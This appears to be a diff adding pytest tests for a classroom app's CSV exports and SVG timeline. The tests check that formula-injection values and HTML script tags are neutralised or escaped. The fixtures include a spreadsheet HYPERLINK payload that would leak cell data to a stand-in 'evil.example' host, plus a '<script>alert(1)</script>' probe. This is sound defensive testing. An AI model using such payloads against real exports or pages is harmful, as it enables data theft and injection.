@@ -1,0 +1,77 @@
+"""CSV exports are safe in spreadsheets and keep their columns; the timeline escapes names."""
+
+from __future__ import annotations
+
+import csv
+import io
+import xml.dom.minidom
+
+import pytest
+
+from server.classroom import commands as c
+from server.classroom.lesson import Actor, Lesson
+from server.classroom.report import RosterEntry, Thresholds, lesson_report
+from server.classroom.rules import Rules
+from server.exports import LESSON_COLUMNS, lesson_csv, matrix_csv, safe_cell
+from server.timeline_svg import timeline_svg
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+7", "'+7"),
+        ("-3", "'-3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=x", "'\t=x"),
+        ("Aida", "Aida"),
+        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
+        (12.5, "12.5"),
+        (None, ""),
+    ],
+)
+def test_safe_cell(value: object, cell: str) -> None:
+    assert safe_cell(value) == cell
+
+
+def report_with(names: list[str]) -> dict[str, object]:
+    lesson = Lesson("L", "C", Rules())
+    records = list(
+        lesson.execute(Actor("t", "teacher"), c.StartLesson("=cmd", "t", False), 0).records
+    )
+    roster = [RosterEntry(f"s{i}", name) for i, name in enumerate(names)]
+    for i, name in enumerate(names):
+        records += lesson.execute(Actor(f"s{i}", "student", name), c.Join(), 60_000).records
+    records += lesson.execute(Actor("t", "teacher"), c.EndLesson(), 600_000).records
+    return lesson_report(records, roster, Thresholds(), 600_000)
+
+
+def test_lesson_csv_neutralizes_formulas_and_keeps_columns() -> None:
+    report = report_with([EVIL, "<script>alert(1)</script>"])
+    text = lesson_csv({"id": "L", "title": "=cmd"}, report)
+    rows = list(csv.reader(io.StringIO(text)))
+    assert tuple(rows[0]) == LESSON_COLUMNS
+    assert rows[1][LESSON_COLUMNS.index("name")] == "'" + EVIL
+    assert rows[1][LESSON_COLUMNS.index("lesson_title")] == "'=cmd"
+    assert rows[2][LESSON_COLUMNS.index("name")] == "<script>alert(1)</script>"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
+def test_matrix_csv_is_safe_too() -> None:
+    matrix = {
+        "lessons": [{"id": "L", "title": "-lesson"}],
+        "learners": [{"id": "s", "name": "@evil", "guest": False,
+                      "lessons": {"L": {"status": "present"}}}],
+    }  # fmt: skip
+    rows = list(csv.reader(io.StringIO(matrix_csv(matrix))))
+    assert rows[0][3] == "'-lesson (L)" and rows[1][1] == "'@evil" and rows[1][3] == "present"
+
+
+def test_timeline_is_valid_svg_with_names_as_text() -> None:
+    report = report_with(["<script>alert(1)</script>", "Aigerim & Co"])
+    svg = timeline_svg("Lesson <1>", report, {})
+    xml.dom.minidom.parseString(svg)  # well-formed
+    assert "<script>" not in svg and "&lt;script&gt;" in svg and "Aigerim &amp; Co" in svg
+    assert 'viewBox="0 0 360' in svg
